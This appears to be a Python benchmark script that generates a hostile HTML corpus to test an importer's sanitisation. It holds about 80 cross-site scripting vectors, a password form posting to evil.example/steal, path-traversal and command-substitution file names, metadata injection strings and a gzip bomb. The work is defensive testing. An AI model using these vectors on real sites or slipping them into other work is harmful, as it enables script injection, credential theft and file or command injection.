"""A hostile corpus, generated: pages that try to run script, inject metadata, escape folders.

Every vector below was written for this project from the classic categories of cross-site
scripting (script elements, event handlers, dangerous URL schemes, frames and plugins, SVG and
MathML, CSS, <base> and <meta>, forms, parser confusion) plus the importer's own attack
surfaces (Markdown metadata, file names, sidecars, JSON records, encodings, sizes). Nothing is
copied from a third-party list.

Each vector goes into a real-looking article in several places (the article text, the page
head, a wrapper around the text), with its own random words so near-duplicate detection keeps
every page. A script that runs would call alert(), log MARKER or set window[MARKER]; the
robustness benchmark and tests/test_hostile.py look for all three in headless Chromium.

    python benchmarks/hostile.py FOLDER     # writes the corpus and prints how many files
"""

from __future__ import annotations

import gzip
import json
import random
import sys
from pathlib import Path

MARKER = "NAXSS"
#: What a vector runs; three kinds, so a detector can't miss one.
PAYLOADS = (f"alert('{MARKER}')", f"console.log('{MARKER}')", f"window.{MARKER}=1")

# {js}: a payload; {js_attr}: the same, for a double-quoted attribute.
VECTORS = {
    "script": "<script>{js}</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-upper": "<SCRIPT>{js}</SCRIPT>",
    "script-slash": "<script/x>{js}</script>",
    "script-split": "<scr<script>ipt>{js}</scr</script>ipt>",
    "script-type": '<script type="text/javascript">{js}</script>',
    "script-module": '<script type="module">{js}</script>',
    "img-onerror": '<img src="x" onerror="{js_attr}">',
    "img-onerror-noquote": "<img src=x onerror={js_attr}>",
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{js_attr}">',
    "body-onload": '<body onload="{js_attr}">',
    "svg-onload": '<svg onload="{js_attr}"></svg>',
    "svg-script": "<svg><script>{js}</script></svg>",
    "svg-animate": '<svg><animate onbegin="{js_attr}" attributeName="x" dur="1s"></animate></svg>',
    "svg-xlink": '<svg><a xlink:href="javascript:{js_attr}"><text x="20" y="20">click</text></a></svg>',
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;{js_attr}&lt;/script&gt;"></iframe></foreignObject></svg>',
    "math-mglyph": '<math><mtext><table><mglyph><style><img src=x onerror="{js_attr}">',
    "details-toggle": '<details open ontoggle="{js_attr}"><summary>more</summary>x</details>',
    "input-autofocus": '<input autofocus onfocus="{js_attr}">',
    "select-autofocus": '<select autofocus onfocus="{js_attr}"></select>',
    "textarea-autofocus": '<textarea autofocus onfocus="{js_attr}"></textarea>',
    "video-source": '<video><source onerror="{js_attr}"></video>',
    "audio-src": '<audio src="x" onerror="{js_attr}"></audio>',
    "marquee": '<marquee onstart="{js_attr}">news</marquee>',
    "div-hover": '<div onmouseover="{js_attr}">hover here</div>',
    "p-onclick": '<p onclick="{js_attr}">A paragraph that runs code when clicked.</p>',
    "a-onclick": '<a href="https://example.com/" onclick="{js_attr}">a link</a>',
    "a-javascript": '<a href="javascript:{js_attr}">read more</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:{js_attr}">read more</a>',
    "a-javascript-space": '<a href=" javascript:{js_attr}">read more</a>',
    "a-javascript-tab": '<a href="jav&#x09;ascript:{js_attr}">read more</a>',
    "a-javascript-entity": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js_attr}">read more</a>',
    "a-javascript-newline": '<a href="java\nscript:{js_attr}">read more</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">old browsers</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    "a-data-svg": '<a href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">svg link</a>',
    "img-javascript": '<img src="javascript:{js_attr}">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-srcset": '<img srcset="javascript:{js_attr} 1x" src="x">',
    "iframe-src": '<iframe src="javascript:{js_attr}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;parent.{js_attr}&lt;/script&gt;"></iframe>',
    "iframe-data": '<iframe src="data:text/html,&lt;script&gt;{js_attr}&lt;/script&gt;"></iframe>',
    "frameset": '<frameset onload="{js_attr}"><frame src="x"></frameset>',
    "object-data": '<object data="javascript:{js_attr}"></object>',
    "object-html": '<object data="data:text/html,&lt;script&gt;{js_attr}&lt;/script&gt;" type="text/html"></object>',
    "embed-src": '<embed src="data:text/html,&lt;script&gt;{js_attr}&lt;/script&gt;">',
    "embed-swf": '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">',
    "applet": '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    "style-element": '<style>body {{ background: url("javascript:{js_attr}") }}</style>',
    "style-import": '<style>@import url("https://evil.example/x.css");</style>',
    "style-expression": '<p style="width: expression({js_attr})">IE expressions</p>',
    "style-url": '<p style="background-image: url(javascript:{js_attr})">styled</p>',
    "style-behavior": '<p style="behavior: url(https://evil.example/x.htc)">behaviour</p>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "base-href": '<base href="javascript:/">',
    "base-evil": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:{js_attr}">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "meta-csp-off": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "meta-cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
    "form-action": '<form action="javascript:{js_attr}"><input type="submit" value="Go"></form>',
    "form-evil": '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
    "button-formaction": '<form><button formaction="javascript:{js_attr}">go</button></form>',
    "input-image": '<input type="image" src="x" onerror="{js_attr}">',
    "isindex": '<isindex action="javascript:{js_attr}" type="image">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror={js_attr}>"></noscript>',
    "comment-mxss": '<!--<img src="--><img src=x onerror="{js_attr}">-->',
    "title-mxss": '<title><img src=x onerror="{js_attr}"></title>',
    "textarea-break": "<textarea></textarea><script>{js}</script>",
    "xmp-break": '<xmp><p title="</xmp><img src=x onerror={js_attr}>"></xmp>',
    "template": '<template><img src=x onerror="{js_attr}"></template>',
    "style-p-mxss": '<p><style></p><img src=x onerror="{js_attr}"></style></p>',
    "cdata": "<![CDATA[<script>{js}</script>]]>",
    "unclosed-attr": '<img src="x" alt="unclosed onerror="{js_attr}">',
    "null-byte-tag": "<scr\x00ipt>{js}</scr\x00ipt>",
    "escaped-text": "&lt;script&gt;{js}&lt;/script&gt; and &lt;img src=x onerror={js}&gt; as text",
    "markdown-link": "[read more](javascript:{js}) and ![pic](javascript:{js})",
    "markdown-html": '<div markdown="1">*x*</div><span onmouseover="{js_attr}">md</span>',
    "double-escaped": "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "object-param": '<object><param name="src" value="javascript:{js_attr}"></object>',
    "portal-dialog": '<dialog open onclose="{js_attr}">dialog</dialog>',
}

VOCABULARY = """harbour council budget minister inquiry strike port ferry vote election union
treaty court judge river bridge railway tunnel weather storm flood drought farmers grain
market prices bank tax school hospital nurses teachers students museum festival theatre
library archive mayor district residents protest rally campaign airport flight energy wind
solar grid coal oil gas emissions research university study scientists survey report
officials spokesperson agency director board shares investors profit losses contract tender
construction housing rent homes village region province border coast island fisheries quota
season match club coach league cup final record history church parliament senate committee
hearing witness evidence police detectives charges fraud prison sentence appeal verdict""".split()


def words(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(VOCABULARY) for _ in range(n))


def paragraphs(rng: random.Random, count: int = 4) -> list[str]:
    return [words(rng, rng.randint(35, 60)).capitalize() + "." for _ in range(count)]


def render_vector(template: str, n: int) -> str:
    js = PAYLOADS[n % len(PAYLOADS)]
    return template.format(js=js, js_attr=js)


def page(title: str, body: list[str], head: str = "", wrap: str = "", url: str = "") -> str:
    canonical = f'<link rel="canonical" href="{url}">' if url else ""
    inner = "".join(f"<p>{p}</p>" if not p.startswith("<") else p for p in body)
    if wrap:
        inner = wrap.replace("TEXT", inner)
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>{title}</title>{canonical}'
        f'{head}</head><body><header><nav><a href="/">Home</a></nav></header>'
        f'<article><h1>{title}</h1><p class="byline">By Mara Quell</p>'
        f'<time datetime="2021-05-0{1 + len(title) % 9}">May 2021</time>{inner}</article>'
        f"<footer>Copyright The Hostile Gazette</footer></body></html>"
    )


def vector_pages(rng: random.Random) -> dict[str, bytes]:
    """Each vector in the text, in the head, and wrapping the text: three pages a vector."""
    files = {}
    for n, (name, template) in enumerate(VECTORS.items()):
        vector = render_vector(template, n)
        for where in ("text", "head", "wrap"):
            title = f"Hostile {name} in {where} {words(rng, 3)}"
            body = paragraphs(rng)
            url = f"https://hostile.example/{where}/{name}"
            if where == "text":
                body.insert(2, f"<p>{words(rng, 8)} {vector} {words(rng, 8)}</p>")
                html = page(title, body, url=url)
            elif where == "head":
                html = page(title, body, head=vector, url=url)
            else:
                body.append(vector)
                html = page(title, body, wrap=f"<div>{vector}TEXT{vector}</div>", url=url)
            files[f"vectors/{name}-{where}.html"] = html.encode("utf-8")
    return files


#: Titles and names that try to add metadata, break lines or escape folders.
INJECTED_TITLES = [
    "Plain title\nStatus: draft",
    "Breaking\r\nSave_as: ../../index.html",
    "Two lines\u2028Template: evil",
    "Paragraph\u2029Slug: ../../../etc/passwd",
    "Nul\x00byte title",
    "Title: Title: nested",
    "<script>alert('NAXSS')</script> in the headline",
    "<img src=x onerror=alert('NAXSS')> headline",
    "{filename}/../../pelicanconf.py",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%2e%2e%2fescape",
    "    indented: continuation",
    "Tab\tSeparated\tTitle",
    "Date: 1970-01-01",
    "A" * 600,
    "Ünïcødé — “quotes” and emoji 🗞️ headline",
    "\u202eRight-to-left override title",
    "Zero\u200bwidth\u200bspaces",
    "javascript:alert('NAXSS')",
]
#: File names that try to escape the input or output folders.
HOSTILE_NAMES = [
    "..html", "...html", " leading-space.html", "trailing-dot..html", "semi;colon.html",
    "new\nline.html", "tab\tname.html", "quote\"name.html", "angle<script>.html",
    "%2e%2e%2fescape.html", "back\\slash.html", "CON.html", "名前の記事.html",
    "emoji-🗞️.html", "very-" + "long-" * 40 + "name.html", ".hidden.html",
    "dollar$(id).html", "star*name.html", "question?.html", "pipe|name.html",
]  # fmt: skip


def metadata_pages(rng: random.Random) -> dict[str, bytes]:
    files = {}
    for n, title in enumerate(INJECTED_TITLES):
        body = paragraphs(rng)
        html = page(title.replace("<", "&lt;"), body, url=f"https://hostile.example/meta/{n}")
        files[f"metadata/title-{n:02d}.html"] = html.encode("utf-8")
        # the same through a sidecar, which is taken as given
        text = "\n\n".join(paragraphs(rng))
        files[f"metadata/sidecar-{n:02d}.txt"] = f"Some headline {n}\n\n{text}\n".encode()
        sidecar = {"title": title, "date": "2020-02-02", "url": f"https://hostile.example/s/{n}",
                   "authors": [title, "Real Name"], "source": title}  # fmt: skip
        files[f"metadata/sidecar-{n:02d}.txt.meta.yml"] = json.dumps(sidecar).encode()
    sidecar_urls = ["javascript:alert('NAXSS')", "data:text/html,<script>alert(1)</script>",
                    "https://ok.example/\"><script>alert(1)</script>", "//evil.example/x"]  # fmt: skip
    for n, url in enumerate(sidecar_urls):
        files[f"metadata/url-{n}.txt"] = (
            "Url headline\n\n" + "\n\n".join(paragraphs(rng))
        ).encode()
        files[f"metadata/url-{n}.txt.meta.yml"] = json.dumps({"url": url}).encode()
    for n, name in enumerate(HOSTILE_NAMES):
        body = paragraphs(rng)
        html = page(f"Oddly named file {n} {words(rng, 3)}", body)
        files[f"names/{name}"] = html.encode("utf-8")
    # JSON Lines records carrying all of the above
    lines = []
    for n, (name, template) in enumerate(list(VECTORS.items())[:20]):
        vector = render_vector(template, n)
        lines.append({
            "url": "javascript:alert('NAXSS')" if n % 3 == 0 else f"https://records.example/{n}",
            "title": INJECTED_TITLES[n % len(INJECTED_TITLES)] + f" record {n}",
            "html": page(f"Record {name}", [*paragraphs(rng), f"<p>{vector}</p>"]),
            "authors": ["Name\nStatus: draft", "<b>Bold</b> Author"],
            "source": "Source: injected\nTemplate: x",
            "date": "2019-07-07",
        })  # fmt: skip
    files["records/hostile.jsonl"] = "\n".join(json.dumps(line) for line in lines).encode()
    return files


def encoding_pages(rng: random.Random) -> dict[str, bytes]:
    """Encodings, declarations that lie, NUL bytes, gzip bombs, size and depth limits."""
    text = " ".join(paragraphs(rng)) + " Café, naïve façade, “quoted”, €5 — Zoë."
    html = page("Encodings test — café", [text])
    files = {
        "encodings/cp1252-declared.html": html.replace("utf-8", "windows-1252").encode("cp1252"),
        "encodings/cp1252-undeclared.html": html.replace('<meta charset="utf-8">', "").encode(
            "cp1252"
        ),
        "encodings/cp1252-declared-utf8.html": html.encode("cp1252"),
        "encodings/latin1.html": html.replace("utf-8", "iso-8859-1")
        .replace("“", '"')
        .replace("”", '"')
        .replace("€", "EUR")
        .replace("—", "-")
        .encode("latin-1"),
        "encodings/utf16-bom.html": html.encode("utf-16"),
        "encodings/utf16be-bom.html": b"\xfe\xff" + html.encode("utf-16-be"),
        "encodings/utf16-no-bom.html": html.encode("utf-16-le"),
        "encodings/utf8-bom.html": b"\xef\xbb\xbf" + html.encode("utf-8"),
        "encodings/mojibake.html": html.encode("utf-8").decode("cp1252", "replace").encode("utf-8"),
        "encodings/bogus-charset.html": html.replace("utf-8", "x-no-such-charset").encode(),
        "encodings/nul-bytes.html": html.replace("Café", "Ca\x00fé").encode("utf-8"),
        "encodings/nul-heavy.html": html.encode("utf-8").replace(b" ", b"\x00"),
        "encodings/invalid-utf8.html": html.encode("utf-8").replace(b"Caf\xc3\xa9", b"Caf\xc3"),
        "encodings/gzip-ok.html.gz": gzip.compress(html.encode("utf-8")),
        "encodings/gzip-truncated.html.gz": gzip.compress(html.encode("utf-8"))[:60],
        "encodings/gzip-bomb.html.gz": gzip.compress(b"<p>" + b"a" * (64 * 1024 * 1024)),
        "encodings/gzip-nested.html.gz": gzip.compress(gzip.compress(html.encode())),
        "encodings/not-gzip.html.gz": b"\x1f\x8b" + b"garbage" * 20,
        "encodings/deep-nesting.html": (
            "<html><body>" + "<div>" * 100_000 + words(rng, 100) + "</div>" * 100_000
        ).encode(),
        "encodings/deep-inline.html": ("<p>" + "<b><i>" * 20_000 + words(rng, 80)).encode(),
        "encodings/many-elements.html": (
            "<html><body><article>" + "<span>x</span>" * 400_000 + "</article></body></html>"
        ).encode(),
        "encodings/huge-text.txt": ("Huge\n\n" + ("word " * 5_000_000)).encode()[:21_000_000],
        "encodings/long-line.html": page("Long line " + "x" * 100_000, paragraphs(rng)).encode(),
        "encodings/control-chars.txt": (
            "Control \x1b[31mred\x1b[0m headline\n\n" + "\n\n".join(paragraphs(rng))
        ).encode(),
        "encodings/empty.html": b"",
        "encodings/whitespace.html": b" \n\t " * 100,
    }
    return files


def corpus(seed: int = 8) -> dict[str, bytes]:
    """Relative path -> bytes of every page of the hostile corpus."""
    rng = random.Random(seed)
    return {**vector_pages(rng), **metadata_pages(rng), **encoding_pages(rng)}


def write_corpus(folder: Path, seed: int = 8) -> list[Path]:
    written = []
    for name, data in corpus(seed).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        written.append(path)
    return written


def control_page() -> str:
    """Every vector raw, unsanitised, with no policy: shows the browser check can see a run."""
    vectors = "\n".join(render_vector(t, n) for n, t in enumerate(VECTORS.values()))
    return f"<!doctype html><html><head><title>control</title></head><body>{vectors}</body></html>"


if __name__ == "__main__":
    paths = write_corpus(Path(sys.argv[1]))
    print(f"{len(paths)} files ({len(VECTORS)} vectors) in {sys.argv[1]}")
